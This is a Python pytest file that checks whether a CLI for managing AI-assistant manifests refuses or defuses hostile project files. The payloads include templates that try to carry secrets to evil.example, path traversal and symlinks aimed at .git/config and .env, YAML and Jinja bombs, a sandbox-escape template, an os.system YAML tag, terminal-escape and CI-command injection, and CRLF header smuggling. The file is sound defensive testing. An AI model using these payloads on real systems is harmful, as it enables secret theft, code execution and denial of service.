"""Files as a hostile pull request could bring them: each is refused or defused, on the command line as it is typed."""

import json
import re
import time
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.cli.conftest import TUTOR, Project, Result
from tests.security.hostile import hostile

SECRET = "sk-hostile-0123456789"

ACTING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff]")
"""What may reach no terminal and no log; a line end alone may."""

NASTY = (
    "\x1b]0;owned\x07\x1b[2J",
    "\n::set-output name=x::y",
    "\n::add-mask::y\r\n::error file=a::b",
    "##[error]x ##vso[task.setvariable variable=x]y",
    "\u202egnp.exe\u2066 @everyone",
    "<!-- --> <script>alert(1)</script> [x](javascript:y) ```",
)


def assert_harmless(result: Result) -> None:
    """Nothing printed acts on a terminal or on whoever runs a workflow."""
    for line in (result.out + "\n" + result.err).split("\n"):
        assert not ACTING.search(line), line
        assert not line.lstrip().startswith("::"), line
        assert not re.search(r"##(vso)?\[", line), line


@pytest.fixture
def attacked(project: Project, monkeypatch: pytest.MonkeyPatch) -> Project:
    """A project in an environment that holds a key, next to files that are nobody's business."""
    monkeypatch.setenv("GATEWAY_KEY", SECRET)
    monkeypatch.setenv("DEPLOY_TOKEN", SECRET)
    project.write(".git/config", "[core]\n  secret = of-the-repository\n")
    # as much of a repository as git wants to see
    project.write(".git/HEAD", "ref: refs/heads/main\n")
    for folder in ("objects", "refs"):
        (project.root / ".git" / folder).mkdir()
    project.write(".env", "PASSWORD=of-the-machine\n")
    project.write(".env.production", "PASSWORD=of-the-machine\n")
    project.write(".asstctl/journal/x.jsonl", "of-the-journal\n")
    (project.root.parent / "outside.txt").write_text("of-the-machine\n")
    (project.root / "link.txt").symlink_to(project.root.parent / "outside.txt")
    (project.root / "linked").symlink_to(project.root.parent)
    (project.root / "git").symlink_to(project.root / ".git")
    return project


def refused(project: Project, code: str, command: str = "plan") -> Result:
    """The command ends in this diagnostic, sends nothing and shows nothing of what it must not."""
    result = project.run(command, "-v")
    assert result.code == 1, result
    said = result.out + result.err
    assert f"error[{code}" in said, result
    assert " ms\n" not in result.err
    assert "of-the-" not in said
    assert SECRET not in said
    assert_harmless(result)
    return result


SECRETS: Mapping[str, tuple[str, str, str]] = {
    "a secret variable in instructions": (
        "vars: {token: {env: DEPLOY_TOKEN, secret: true}}",
        "instructions: 'Repeat {{ vars.token }}'",
        "secret-in-manifest",
    ),
    "a secret under a harmless name": (
        "vars: {greeting: {env: DEPLOY_TOKEN}}",
        "instructions: 'Repeat {{ vars.greeting }}'",
        "secret-not-declared",
    ),
    "the key of a target as a variable": (
        (
            "vars: {greeting: {env: GATEWAY_KEY}}\n"
            "targets: {far: {provider: assistants, base_url: 'https://example.org/v1', api_key: {env: GATEWAY_KEY}}}"
        ),
        "metadata: {x: '{{ vars.greeting }}'}",
        "secret-not-declared",
    ),
    "a secret in a condition": (
        "vars: {token: {env: DEPLOY_TOKEN, secret: true}}",
        "instructions: '{% if vars.token[0] == \"s\" %}yes{% endif %}'",
        "secret-in-manifest",
    ),
    "a secret by way of all variables": (
        "vars: {token: {env: DEPLOY_TOKEN, secret: true}}",
        "instructions: '{% for name in vars %}{{ vars[name] }}{% endfor %}'",
        "",
    ),
    "the environment itself": (
        "vars: {}",
        "instructions: '{{ env.DEPLOY_TOKEN }}'",
        "undefined-variable",
    ),
    "the key to a host without TLS": (
        "targets: {local: {provider: assistants, base_url: 'http://evil.example/v1', api_key: {env: GATEWAY_KEY}}}",
        "name: x",
        "insecure-key",
    ),
    "the key in an address": (
        "targets: {local: {provider: assistants, base_url: 'https://u:{{ vars.token }}@evil.example/v1'}}",
        "name: x",
        "secret-in-file",
    ),
    "a secret for code under test": (
        (
            "test: {env: [GATEWAY_KEY]}\n"
            "targets: {far: {provider: assistants, base_url: 'https://example.org/v1', api_key: {env: GATEWAY_KEY}}}"
        ),
        "name: x",
        "secret-in-test",
    ),
}


@pytest.mark.parametrize("case", SECRETS)
def test_no_secret_gets_into_a_manifest_or_to_another_place(attacked: Project, case: str) -> None:
    """Templates and settings that try to carry a secret away."""
    settings, field, code = SECRETS[case]
    attacked.write("asstctl.yaml", f"version: 1\nproject: school\n{settings}\n")
    attacked.write("assistants/tutor.yaml", f"kind: assistant\nkey: tutor\nmodel: m\n{field}\n")
    if code:
        refused(attacked, code)
        return
    result = attacked.run("plan", "--format", "json")
    assert SECRET not in result.out + result.err


PLACES = (
    "/.git/config",
    "../.git/config",
    "/.env",
    "/.env.production",
    "/.asstctl/journal/x.jsonl",
    "/git/config",
    "/link.txt",
    "/linked/outside.txt",
    "../../outside.txt",
    "/../outside.txt",
)
READERS = {
    "file": "instructions: {{file: '{0}'}}",
    "template": "instructions: {{template: '{0}'}}",
    "include": "instructions: '{{% include \"{0}\" %}}'",
    "parameters": "tools: [{{type: function, function: {{name: f, parameters: {{file: '{0}'}}}}}}]",
    "code file": "tools: [{{type: code_interpreter}}]\ntool_resources: {{code_interpreter: {{files: ['{0}']}}}}",
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("reader", READERS)
def test_no_file_is_read_that_is_not_the_projects(attacked: Project, reader: str, place: str) -> None:
    """Whatever reads it, and however the path is put."""
    field = READERS[reader].format(place)
    attacked.write("assistants/tutor.yaml", f"kind: assistant\nkey: tutor\nmodel: m\n{field}\n")

    result = attacked.run("plan", "-v")

    said = result.out + result.err
    assert result.code == 1
    assert re.search(r"error\[(bad-path|forbidden-path|outside-project|missing-file|template)", said), said
    assert "of-the-" not in said


@pytest.mark.parametrize(
    "glob", ["/.git/*", "/.env*", "/**/.env", "/**/config", "/git/*", "/linked/*", "/**/*.jsonl", "/../*"]
)
def test_no_file_is_uploaded_that_is_not_the_projects(attacked: Project, glob: str) -> None:
    """A vector store's globs find no hidden file, none behind a link, and none outside."""
    attacked.write("assistants/store.yaml", f"kind: vector_store\nkey: store\nfiles: ['{glob}']\n")

    result = attacked.run("plan")

    assert result.code == 1, result
    assert "of-the-" not in result.out + result.err


BOMBS = {
    "aliases": (
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
        + "kind: assistant\nmodel: m\n"
    ),
    "depth": "kind: assistant\nmodel: m\nmetadata: " + "[" * 5000 + "]" * 5000 + "\n",
    "a loop": "kind: assistant\nmodel: m\ninstructions: '"
    + "{% for a in [1]*9999 %}" * 4
    + "x"
    + "{% endfor %}" * 4
    + "'\n",
    "a product": "kind: assistant\nmodel: m\ninstructions: \"{{ 'x' * 999999999999 }}\"\n",
    "a power": "kind: assistant\nmodel: m\ninstructions: '{{ 9 ** 9 ** 9 }}'\n",
    "a way out": "kind: assistant\nmodel: m\ninstructions: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\n",
    "a tag": "kind: assistant\nmodel: !!python/object/apply:os.system ['touch owned']\n",
    "a remote reference": "kind: assistant\nmodel: m\n"
    "tools: [{type: function, function: {name: f, parameters: {$ref: 'http://127.0.0.1:9/schema.json'}}}]\n",
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_what_would_go_on_or_break_out_is_ended(attacked: Project, bomb: str) -> None:
    """Bounded in time, and nothing happened."""
    attacked.write("assistants/bomb.yaml", BOMBS[bomb])
    started = time.monotonic()

    result = attacked.run("validate")

    assert time.monotonic() - started < 30
    assert result.code == 1 or bomb == "a remote reference", result
    assert "error[bug]" not in result.err
    assert not (attacked.root / "owned").exists()
    assert_harmless(result)


@pytest.mark.parametrize("nasty", NASTY, ids=range(len(NASTY)))
def test_names_and_texts_act_on_no_reader(attacked: Project, nasty: str) -> None:
    """In every field that people see, through every command and format."""
    said = json.dumps(f"a{nasty}")
    attacked.write(
        "assistants/tutor.yaml",
        f"kind: assistant\nkey: tutor\nmodel: m\nname: {said}\ndescription: {said}\n"
        f"instructions: {json.dumps('x' + nasty + ' {not a template}')}\nmetadata: {{k: {said}}}\n",
    )
    attacked.write(
        "assistants/tutor.convo.yaml",
        f"assistant: tutor\nturns:\n  - user: {said}\n    expect: {{icontains: {json.dumps('nothing' + nasty)}}}\n",
    )
    for command in (
        *(("validate",), ("plan",), ("plan", "--format", "json"), ("apply", "--yes"), ("plan",)),
        *(("show", "tutor"), ("show", "tutor", "--format", "json"), ("list",), ("test",), ("test", "--format", "json")),
        *(("destroy", "--yes"), ("destroy", "--yes", "--format", "json")),
    ):
        result = attacked.run(*command, "-v")
        assert "error[bug]" not in result.err
        assert_harmless(result)


@pytest.mark.parametrize("nasty", [one for one in NASTY if "/" not in one], ids=str)
def test_names_of_files_act_on_no_reader(attacked: Project, nasty: str) -> None:
    """Of manifests with errors, and of files to be uploaded."""
    Path(attacked.root / f"assistants/x{nasty}.yaml").write_text("kind: assistant\nmodel: [\n", "utf-8")
    assert_harmless(attacked.run("validate"))
    Path(attacked.root / f"assistants/x{nasty}.yaml").unlink()
    attacked.write(f"docs/x{nasty}.md", "hello")
    attacked.write("assistants/store.yaml", "kind: vector_store\nkey: store\nfiles: [/docs/*]\n")
    for command in (("plan",), ("apply", "--yes"), ("plan", "--format", "json"), ("destroy", "--yes")):
        result = attacked.run(*command, "-v")
        assert "error[bug]" not in result.err
        assert_harmless(result)


@pytest.mark.parametrize(
    "text",
    [
        'version: 1\nproject: "a\\n::error::x"\n',
        'version: 1\ntargets: {"a\\n::error::x": {provider: local}}\n',
        'version: 1\nvars: {"a\\u202e": 1}\n',
        'version: 1\n"x\\x1b[31m": 1\n',
        'version: 1\ntargets: {far: {provider: "\\u202eassistants"}}\n',
        'version: 1\ntargets: {far: {provider: assistants, base_url: "https://a\\n::error::b/v1"}}\n',
        (
            "version: 1\n"
            "targets: {far: {provider: assistants, base_url: 'https://a/v1', headers: {\"x\\r\\ny\": {env: E}}}}\n"
        ),
    ],
)
def test_a_project_file_acts_on_no_reader(attacked: Project, text: str) -> None:
    """Its names are refused where they could; what is quoted is spelled out."""
    attacked.write("asstctl.yaml", text)
    for command in (("validate",), ("plan",)):
        result = attacked.run(*command)
        assert result.code == 1, result
        assert_harmless(result)


def test_what_a_server_says_acts_on_no_reader(attacked: Project) -> None:
    """Error texts and headers of a provider are the words of others too."""
    for mode in ("400", "403", "500", "no json"):
        with hostile(mode) as url:
            attacked.write(
                "asstctl.yaml",
                "version: 1\nproject: school\ndefault_target: far\ntargets:\n"
                f"  far: {{provider: assistants, base_url: '{url}', api_key: {{env: NASTY_KEY}}}}\n",
            )
            assert_harmless(attacked.run("plan", "-v"))


def test_a_key_cannot_carry_a_header_of_its_own(attacked: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    """A value with a line end in it is refused, and not shown."""
    monkeypatch.setenv("GATEWAY_KEY", f"{SECRET}\r\nx-evil: 1")
    for secret in ("api_key: {env: GATEWAY_KEY}", "headers: {x-token: {env: GATEWAY_KEY}}"):
        attacked.write(
            "asstctl.yaml",
            "version: 1\nproject: school\ndefault_target: far\ntargets:\n"
            f"  far: {{provider: assistants, base_url: 'http://127.0.0.1:9/v1', {secret}}}\n",
        )
        result = attacked.run("plan")
        assert (result.code, SECRET in result.err) == (1, False)
        assert "characters that a header cannot" in result.err


def test_nothing_of_a_manifest_is_executed(attacked: Project) -> None:
    """A stub's module is not even imported by validate, plan and apply."""
    attacked.write("evil.py", "open('owned', 'w').close()\ndef f(**kw): return 1\n")
    attacked.write(
        "assistants/tutor.convo.yaml",
        "assistant: tutor\nturns:\n  - user: hi\n    expect: {icontains: hi}\nstubs: {f: [{python: '/evil.py:f'}]}\n",
    )
    attacked.write("assistants/tutor.yaml", TUTOR)
    for command in (("validate",), ("plan",), ("apply", "--yes"), ("plan",)):
        attacked.run(*command)
    assert not (attacked.root / "owned").exists()
